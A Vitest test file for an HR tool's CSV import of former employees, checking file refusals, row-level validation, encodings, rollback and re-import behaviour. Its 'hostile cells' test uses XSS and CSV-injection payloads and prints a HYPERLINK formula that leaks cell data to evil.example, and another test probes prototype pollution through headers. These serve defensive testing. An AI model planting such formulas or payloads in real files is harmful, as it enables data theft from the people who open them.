import fs from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { registerBackgroundWork } from "~/modules/background.server";
import { db } from "~/platform/db.server";
import { AppError } from "~/platform/errors";
import { runNextJob } from "~/platform/jobs.server";
import { createDecision, createStaffUser, staffActor, unique } from "../../../test/factories";
import {
  countTried,
  CSV_INJECTION_PAYLOADS,
  triedSummary,
  XSS_PAYLOADS,
} from "../../../test/hostile/payloads";
import { IMPORT_CHECK_JOB, startImportCheck } from "./check-import.server";
import { IMPORT_COMMIT_JOB, startImportCommit } from "./commit-import.server";
import { suggestMapping } from "./fields";
import { importErrorReport } from "./import-error-report.server";
import type { ImportSettings } from "./schemas";
import { uploadImport } from "./upload-import.server";
import type { StaffUser } from "~/platform/auth.server";

const fixture = (name: string) =>
  fs.readFileSync(path.join(import.meta.dirname, "../../../test/fixtures", name));
async function* once(bytes: Uint8Array) {
  yield bytes;
}
const HEADER =
  "Employee ID,First Name,Last Name,Work Email,Job Title,Hire Date,Termination Date,Termination Reason,Eligible for Rehire";
let hr: StaffUser;

beforeAll(async () => {
  registerBackgroundWork();
  hr = staffActor(await createStaffUser(db, { role: "hr" }));
});
afterAll(() => console.info(`hostile payloads tried (imports): ${triedSummary()}`));

async function runJobs() {
  while (await runNextJob({ kinds: [IMPORT_CHECK_JOB, IMPORT_COMMIT_JOB] }));
}

async function refusal(promise: Promise<unknown>) {
  const error = await promise.then(
    () => null,
    (e) => e,
  );
  expect(error).toBeInstanceOf(AppError);
  return error as AppError;
}

/** Uploads, checks with the suggested mapping, optionally commits; returns the run. */
async function importCsv(
  content: string | Uint8Array,
  options: { commit?: boolean; settings?: Partial<ImportSettings>; fileName?: string } = {},
) {
  const bytes = typeof content === "string" ? Buffer.from(content) : content;
  const up = await uploadImport({
    actor: hr,
    fileName: options.fileName ?? "leavers.csv",
    data: once(bytes),
  });
  const settings: ImportSettings = {
    system: "generic",
    columns: suggestMapping(up.headers),
    dateFormat: "iso",
    reasonOverrides: {},
    decisionId: null,
    ...options.settings,
  };
  await startImportCheck({ actor: hr, importId: up.id, settings });
  await runJobs();
  if (options.commit) {
    const checked = await db.importRun.findUniqueOrThrow({ where: { id: up.id } });
    if (checked.status === "checked") {
      await startImportCommit({ actor: hr, importId: up.id });
      await runJobs();
    }
  }
  return db.importRun.findUniqueOrThrow({ where: { id: up.id } });
}

async function problemsOf(importId: string) {
  const rows = await db.importRow.findMany({
    where: { importId, outcome: "rejected" },
    orderBy: { rowNumber: "asc" },
  });
  return rows.flatMap((r) =>
    (r.errors as { column: string; message: string }[]).map(
      (e) => `row ${r.rowNumber} · ${e.column} · ${e.message}`,
    ),
  );
}

const person = (
  id: string,
  extra: Partial<
    Record<"first" | "last" | "email" | "title" | "hire" | "exit" | "reason" | "rehire", string>
  > = {},
) =>
  [
    id,
    extra.first ?? "Ann",
    extra.last ?? "Berg",
    extra.email ?? `${id.toLowerCase()}@example.com`,
    extra.title ?? "Agent",
    extra.hire ?? "2015-01-02",
    extra.exit ?? "2022-03-04",
    extra.reason ?? "Position Eliminated",
    extra.rehire ?? "Yes",
  ].join(",");

describe("files that are refused whole, with the reason named; nothing stored", () => {
  it("empty, header-only, binary renamed .csv, unknown encoding, duplicate headers", async () => {
    const before = await db.importRun.count();
    expect(
      (await refusal(uploadImport({ actor: hr, fileName: "empty.csv", data: once(new Uint8Array()) })))
        .message,
    ).toMatch(/The file is empty/);
    expect(
      (
        await refusal(
          uploadImport({ actor: hr, fileName: "headings.csv", data: once(Buffer.from(`${HEADER}\n`)) }),
        )
      ).message,
    ).toMatch(/column headings but no rows/);
    const png = Buffer.from([
      0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
    ]);
    expect(
      (await refusal(uploadImport({ actor: hr, fileName: "photo.csv", data: once(png) }))).message,
    ).toMatch(/not a text file/);
    const xlsx = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from("xl/workbook.xml")]);
    expect(
      (await refusal(uploadImport({ actor: hr, fileName: "export.csv", data: once(xlsx) }))).message,
    ).toMatch(/spreadsheet or ZIP file renamed \.csv/);
    expect(
      (
        await refusal(
          uploadImport({
            actor: hr,
            fileName: "odd.csv",
            data: once(Buffer.from([0x61, 0x2c, 0x62, 0x0a, 0x81, 0x2c, 0x9d, 0x0a])),
          }),
        )
      ).message,
    ).toMatch(/neither UTF-8 nor Windows-1252/);
    expect(
      (
        await refusal(
          uploadImport({
            actor: hr,
            fileName: "dup.csv",
            data: once(Buffer.from(`Employee ID,Email,Name,email\nE1,a@b.co,Ann Berg,x\n`)),
          }),
        )
      ).message,
    ).toMatch(/"email" appears twice \(columns 2 and 4\)/);
    expect(
      (
        await refusal(
          uploadImport({ actor: hr, fileName: "notes.pdf", data: once(Buffer.from("a,b\n1,2\n")) }),
        )
      ).message,
    ).toMatch(/CSV file/);
    expect(await db.importRun.count()).toBe(before);
    expect(
      await db.importChunk.count({
        where: { run: { fileName: { in: ["empty.csv", "photo.csv", "dup.csv"] } } },
      }),
    ).toBe(0);
  });

  it("a 60 MB file is refused with the 50 MB limit named, without keeping any of it", async () => {
    const line = `${person("E0")}\n`;
    const piece = Buffer.from(`${HEADER}\n${line.repeat(Math.ceil((1024 * 1024) / line.length))}`);
    async function* sixtyMegabytes() {
      for (let i = 0; i < 60; i++) yield piece;
    }
    const before = await db.importChunk.count();
    const error = await refusal(uploadImport({ actor: hr, fileName: "huge.csv", data: sixtyMegabytes() }));
    expect(error.status).toBe(413);
    expect(error.message).toMatch(/larger than the 50 MB limit/);
    expect(await db.importChunk.count()).toBe(before);
    expect(await db.importRun.count({ where: { fileName: "huge.csv" } })).toBe(0);
  });

  it("an unclosed quote: the file is refused with the line named, nothing staged or written", async () => {
    const alumni = await db.alumnus.count();
    const run = await importCsv(
      `${HEADER}\n${person("Q1")}\nQ2,"Ann,Berg,q2@example.com,Agent,2015-01-02,2022-03-04,Layoff,Yes\n${person("Q3")}\n`,
      { commit: true },
    );
    expect(run.status).toBe("invalid");
    expect(run.error).toMatch(/never closed/);
    expect(await db.importRow.count({ where: { importId: run.id } })).toBe(0);
    expect(await db.alumnus.count()).toBe(alumni);
    expect(await db.auditEvent.count({ where: { entityId: run.id, action: "import.failed" } })).toBe(1);
  });

  it("a giant record (an unclosed quote over 64 KB) is refused, not read into memory whole", async () => {
    const run = await importCsv(
      `${HEADER}\n${person("G1")}\nG2,Ann,Berg,g2@example.com,"${"x".repeat(70_000)}\n`,
    );
    expect(run.status).toBe("invalid");
    expect(run.error).toMatch(/larger than 64 KB|never closed/);
  });
});

describe("rows that are rejected one by one, named by row, column and problem", () => {
  it("dates, emails, duplicates, oversize cells, short rows, quoted line breaks", async () => {
    const dupId = unique("D");
    const rows = [
      person(`${dupId}-1`), // row 2: fine
      person(`${dupId}-2`, { hire: "2020-05-01", exit: "2019-01-01" }), // 3: exit before hire
      person(`${dupId}-3`, { exit: "2099-01-01" }), // 4: future exit
      person(`${dupId}-4`, { email: "not-an-email" }), // 5: invalid email
      person(`${dupId}-1`, { email: `${dupId}-other@example.com` }), // 6: duplicate id of row 2
      person(`${dupId}-6`, { title: "x".repeat(1500) }), // 7: oversize cell
      `${dupId}-7,Ann,Berg`, // 8: short row
      `${dupId}-8,Ann,Berg,${dupId}-8@example.com,"Senior\nAgent",2015-01-02,2022-03-04,Layoff,Yes`, // 9 (two lines): line break in a title
      person(`${dupId}-9`, { exit: "03/04/2022" }), // 10: not ISO
      person(`${dupId}-10`, { rehire: "Perhaps" }), // 11: unknown flag
      person(`${dupId}-11`), // 12: fine
    ];
    const run = await importCsv(`${HEADER}\n${rows.join("\n")}\n`, { commit: true });
    // The oversize title (row 7) and the line break in a title (row 9) are problems in an optional
    // field: those people are imported with a warning (ADR 063).
    expect(run).toMatchObject({
      status: "committed",
      rowCount: 11,
      createCount: 4,
      rejectCount: 7,
      warningCount: 2,
    });
    const problems = await problemsOf(run.id);
    expect(problems).toEqual([
      expect.stringMatching(
        /^row 3 · Termination Date · The exit date 2019-01-01 is before the hire date 2020-05-01/,
      ),
      expect.stringMatching(/^row 4 · Termination Date · The exit date 2099-01-01 is in the future/),
      expect.stringMatching(/^row 5 · Work Email · "not-an-email" is not a valid email address/),
      expect.stringMatching(new RegExp(`^row 6 · Employee ID · Employee ID ${dupId}-1 is also on row 2`)),
      expect.stringMatching(/^row 8 · \(whole row\) · This row has 3 values; the header has 9/),
      expect.stringMatching(/^row 10 · Termination Date · "03\/04\/2022" is not an ISO date/),
      expect.stringMatching(/^row 11 · Eligible for Rehire · "Perhaps" is not Yes, No or Upon review/),
    ]);
    expect(await db.alumnus.count({ where: { hrId: { startsWith: dupId } } })).toBe(4);
    expect(await db.alumnus.findUniqueOrThrow({ where: { hrId: `${dupId}-6` } })).toMatchObject({
      jobTitle: null,
    });
    expect(await db.alumnus.findUniqueOrThrow({ where: { hrId: `${dupId}-8` } })).toMatchObject({
      jobTitle: "Senior Agent",
    });
  });

  it("ambiguous dates are never guessed: the declared format decides, a mismatch is an error", async () => {
    const id = unique("A");
    const content = `${HEADER}\n${person(`${id}-1`, { hire: "04/05/2015", exit: "06/07/2020" })}\n${person(`${id}-2`, { hire: "04/25/2015", exit: "06/07/2020" })}\n`;
    const eu = await importCsv(content, { settings: { dateFormat: "eu" } });
    expect(await problemsOf(eu.id)).toEqual([
      expect.stringMatching(/^row 3 · Hire Date · "04\/25\/2015" is not a valid European date/),
    ]);
    const us = await importCsv(content, { settings: { dateFormat: "us" }, commit: true });
    expect(us).toMatchObject({ createCount: 2, rejectCount: 0 });
    const a = await db.alumnus.findUniqueOrThrow({ where: { hrId: `${id}-1` } });
    expect(a.hireDate?.toISOString().slice(0, 10)).toBe("2015-04-05");
  });

  it("a work email that already belongs to someone else is rejected, not merged", async () => {
    const id = unique("W");
    await importCsv(`${HEADER}\n${person(`${id}-1`, { email: `${id}@example.com` })}\n`, { commit: true });
    const run = await importCsv(`${HEADER}\n${person(`${id}-2`, { email: `${id}@example.com` })}\n`, {
      commit: true,
    });
    expect(run).toMatchObject({ createCount: 0, rejectCount: 1 });
    expect((await problemsOf(run.id))[0]).toMatch(/already belongs to another person .*employee ID/);
  });
});

describe("encodings, delimiters and odd headers", () => {
  it("the BambooHR sample: UTF-8 with BOM, semicolons, ISO dates, Upon review flags", async () => {
    const run = await importCsv(fixture("bamboohr-terminations-sample.csv"), {
      commit: true,
      settings: { system: "bamboohr" },
    });
    expect(run).toMatchObject({
      status: "committed",
      encoding: "utf-8-bom",
      delimiter: ";",
      createCount: 40,
      rejectCount: 0,
    });
    expect(run.headers[0]).toBe("Employee #");
    const jorgen = await db.alumnus.findUniqueOrThrow({
      where: { hrId: "2001" },
      include: { employmentPeriods: true },
    });
    expect(jorgen).toMatchObject({
      firstName: "Jörgen",
      exitReason: "attendance",
      hrRehireFlag: "yes",
      personalEmail: "jorgen.kim1@home.example.net",
      source: "import",
    });
    expect(jorgen.searchText).toContain("jorgen");
    expect(jorgen.employmentPeriods).toHaveLength(1);
    const review = await db.alumnus.findUniqueOrThrow({ where: { hrId: "2000" } });
    expect(review.hrRehireFlag).toBe("review");
  });

  it("Windows-1252 files are read as such", async () => {
    const id = unique("C");
    const text = `${HEADER}\n${person(id, { first: "J\u00f6rgen", last: "Str\u00f6m" })}\n`;
    const bytes = Buffer.from(text, "latin1"); // ö is 0xF6 in both Latin-1 and Windows-1252
    const run = await importCsv(bytes, { commit: true });
    expect(run).toMatchObject({ encoding: "windows-1252", createCount: 1 });
    expect(await db.alumnus.findUniqueOrThrow({ where: { hrId: id } })).toMatchObject({
      firstName: "Jörgen",
      lastName: "Ström",
    });
  });

  it("__proto__ and constructor headers are ordinary columns", async () => {
    const id = unique("P");
    const run = await importCsv(
      `Employee ID,__proto__,constructor,Work Email,First Name,Last Name\n${id},polluted,yes,${id}@example.com,Ann,Berg\n`,
      {
        commit: true,
        settings: {
          columns: {
            hrId: "Employee ID",
            workEmail: "Work Email",
            firstName: "First Name",
            lastName: "Last Name",
            jobTitle: "__proto__",
            department: "constructor",
          },
        },
      },
    );
    expect(run.createCount).toBe(1);
    expect(await db.alumnus.findUniqueOrThrow({ where: { hrId: id } })).toMatchObject({
      jobTitle: "polluted",
      department: "yes",
    });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe("idempotent commits, updates and hand edits", () => {
  it("the Workday sample twice: the second import changes nothing", async () => {
    const settings = { system: "workday" as const, dateFormat: "us" as const };
    const first = await importCsv(fixture("workday-terminations-sample.csv"), { commit: true, settings });
    expect(first).toMatchObject({ status: "committed", createCount: 60, rejectCount: 0 });
    const count = await db.alumnus.count();
    const periods = await db.employmentPeriod.count();
    const second = await importCsv(fixture("workday-terminations-sample.csv"), { commit: true, settings });
    expect(second).toMatchObject({ status: "committed", createCount: 0, updateCount: 0, unchangedCount: 60 });
    expect(await db.alumnus.count()).toBe(count);
    expect(await db.employmentPeriod.count()).toBe(periods);
    const chloe = await db.alumnus.findUniqueOrThrow({ where: { hrId: "E100000" } });
    expect(chloe).toMatchObject({
      firstName: "Chloé",
      lastName: "Eriksson",
      preferredName: "Chloé",
      exitReason: "resignation",
      regrettable: true,
      hrRehireFlag: "yes",
    });
    expect(chloe.exitDate?.toISOString().slice(0, 10)).toBe("2020-03-02");
    const events = await db.auditEvent.findMany({
      where: { entityId: { in: [first.id, second.id] } },
      select: { action: true },
    });
    expect(events.map((e) => e.action).sort()).toEqual([
      "import.committed",
      "import.committed",
      "import.uploaded",
      "import.uploaded",
    ]);
  });

  it("a newer export updates people but keeps fields HR edited by hand, listing them as conflicts", async () => {
    const id = unique("M");
    await importCsv(`${HEADER}\n${person(id, { title: "Agent" })}\n`, { commit: true });
    const before = await db.alumnus.findUniqueOrThrow({ where: { hrId: id } });
    await db.alumnus.update({
      where: { id: before.id },
      data: {
        jobTitle: "Team Lead (corrected)",
        manualEdits: { jobTitle: { at: new Date().toISOString(), by: hr.id } },
      },
    });
    const run = await importCsv(`${HEADER}\n${person(id, { title: "Senior Agent", last: "Berg-Lind" })}\n`, {
      commit: true,
    });
    expect(run).toMatchObject({ updateCount: 1, conflictCount: 1 });
    const after = await db.alumnus.findUniqueOrThrow({ where: { hrId: id } });
    expect(after).toMatchObject({
      jobTitle: "Team Lead (corrected)",
      lastName: "Berg-Lind",
      lastImportId: run.id,
      version: before.version + 1,
    });
    expect(after.searchText).toContain("berg-lind");
    const row = await db.importRow.findFirstOrThrow({ where: { importId: run.id } });
    expect(row.conflicts).toEqual({
      jobTitle: { current: "Team Lead (corrected)", incoming: "Senior Agent" },
    });
    const { stream } = await importErrorReport({ actor: hr, importId: run.id });
    const report = await new Response(stream).text();
    expect(report).toContain(
      '"conflict (kept the hand-edited value)","Job Title","HR changed this field by hand; the import kept that value.","Senior Agent","Team Lead (corrected)"',
    );
  });

  it("links people to a workforce decision from a column or for the whole file", async () => {
    const decision = await createDecision(db);
    const other = await createDecision(db);
    const id = unique("L");
    const header = `${HEADER},Workforce Decision`;
    const run = await importCsv(
      `${header}\n${person(`${id}-1`)},${decision.title}\n${person(`${id}-2`)},\n${person(`${id}-3`)},No such decision\n`,
      { commit: true, settings: { decisionId: other.id } },
    );
    expect(run).toMatchObject({ createCount: 2, rejectCount: 1 });
    expect((await db.alumnus.findUniqueOrThrow({ where: { hrId: `${id}-1` } })).decisionId).toBe(decision.id);
    expect((await db.alumnus.findUniqueOrThrow({ where: { hrId: `${id}-2` } })).decisionId).toBe(other.id);
    expect((await problemsOf(run.id))[0]).toMatch(
      /row 4 · Workforce Decision · There is no workforce decision called "No such decision"/,
    );
  });
});

describe("all or nothing", () => {
  it("a failure in the middle of a commit leaves nothing of the import; committing again works", async () => {
    const id = unique("X");
    const rows = Array.from({ length: 30 }, (_, i) => person(`${id}-${i}`));
    const run = await importCsv(`${HEADER}\n${rows.join("\n")}\n`);
    expect(run).toMatchObject({ status: "checked", createCount: 30 });
    // Alumni are inserted first; the employment periods then fail: the whole transaction must roll back.
    await db.$executeRaw`CREATE FUNCTION bench_fail() RETURNS trigger AS $$ BEGIN RAISE EXCEPTION 'disk full (simulated)'; END $$ LANGUAGE plpgsql`;
    await db.$executeRaw`CREATE TRIGGER fail_periods BEFORE INSERT ON "EmploymentPeriod" FOR EACH ROW EXECUTE FUNCTION bench_fail()`;
    await startImportCommit({ actor: hr, importId: run.id });
    await runJobs();
    const failed = await db.importRun.findUniqueOrThrow({ where: { id: run.id } });
    expect(failed.status).toBe("failed");
    expect(failed.error).toMatch(/nothing from it was written/);
    expect(await db.alumnus.count({ where: { hrId: { startsWith: id } } })).toBe(0);
    expect(await db.auditEvent.count({ where: { entityId: run.id, action: "import.committed" } })).toBe(0);
    expect(await db.auditEvent.count({ where: { entityId: run.id, action: "import.failed" } })).toBe(1);
    await db.$executeRaw`DROP TRIGGER fail_periods ON "EmploymentPeriod"`;
    await db.$executeRaw`DROP FUNCTION bench_fail()`;
    await startImportCommit({ actor: hr, importId: run.id });
    await runJobs();
    expect(await db.importRun.findUniqueOrThrow({ where: { id: run.id } })).toMatchObject({
      status: "committed",
      createCount: 30,
    });
    expect(await db.alumnus.count({ where: { hrId: { startsWith: id } } })).toBe(30);
    // Committing twice is refused; the pool has no duplicates.
    await refusal(startImportCommit({ actor: hr, importId: run.id }));
  });
});

describe("a check that was interrupted", () => {
  it("starts again from a clean slate: what an earlier attempt staged is cleared, nothing is counted twice", async () => {
    const id = unique("R");
    const rows = Array.from({ length: 5 }, (_, i) => person(`${id}-${i}`));
    const up = await uploadImport({
      actor: hr,
      fileName: "again.csv",
      data: once(Buffer.from(`${HEADER}\n${rows.join("\n")}\n`)),
    });
    await startImportCheck({
      actor: hr,
      importId: up.id,
      settings: {
        system: "generic",
        columns: suggestMapping(up.headers),
        dateFormat: "iso",
        reasonOverrides: {},
        decisionId: null,
      },
    });
    // As if a runner died after staging part of the file: its rows are still there when the job runs again.
    await db.importRow.createMany({
      data: [2, 3].map((rowNumber) => ({
        importId: up.id,
        rowNumber,
        outcome: "pending",
        hrId: `${id}-${rowNumber - 2}`,
        firstName: "Ann",
        lastName: "Berg",
      })),
    });
    await runJobs();
    expect(await db.importRun.findUniqueOrThrow({ where: { id: up.id } })).toMatchObject({
      status: "checked",
      rowCount: 5,
      createCount: 5,
    });
    expect(await db.importRow.count({ where: { importId: up.id } })).toBe(5);
  });
});

describe("hostile cells", () => {
  it("formula and script payloads are stored as text and neutralised in the error report", async () => {
    const id = unique("H");
    const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;
    const rows = [
      ...XSS_PAYLOADS.map((p, i) =>
        [
          `${id}-x${i}`,
          "Ann",
          "Berg",
          `${id}-x${i}@example.com`,
          quote(p),
          "2015-01-02",
          "2022-03-04",
          "Layoff",
          "Yes",
        ].join(","),
      ),
      ...CSV_INJECTION_PAYLOADS.map((p, i) =>
        [`${id}-c${i}`, "Ann", "Berg", quote(p), quote(p), "2015-01-02", "2022-03-04", "Layoff", "Yes"].join(
          ",",
        ),
      ),
    ];
    const run = await importCsv(`${HEADER}\n${rows.join("\n")}\n`, { commit: true });
    countTried("xss (import cells)", XSS_PAYLOADS.length);
    countTried("csv injection (import cells)", CSV_INJECTION_PAYLOADS.length);
    expect(run.createCount).toBe(XSS_PAYLOADS.length);
    expect(run.rejectCount).toBe(CSV_INJECTION_PAYLOADS.length); // the email column holds the formula
    for (const [i, p] of XSS_PAYLOADS.entries()) {
      expect((await db.alumnus.findUniqueOrThrow({ where: { hrId: `${id}-x${i}` } })).jobTitle).toBe(
        p.trim(),
      );
    }
    const { stream } = await importErrorReport({ actor: hr, importId: run.id });
    const report = await new Response(stream).text();
    for (const line of report.split("\r\n").slice(1).filter(Boolean)) {
      for (const cell of line.slice(1, -1).split('","')) expect(cell, line).not.toMatch(/^[=+\-@\t\r\n]/);
    }
    expect(report).toContain(`"'=HYPERLINK(""http://evil.example?x=""&A1,""Click"")`);
    expect(
      await db.auditEvent.count({ where: { entityId: run.id, action: "import.error_report_downloaded" } }),
    ).toBe(1);
  });
});
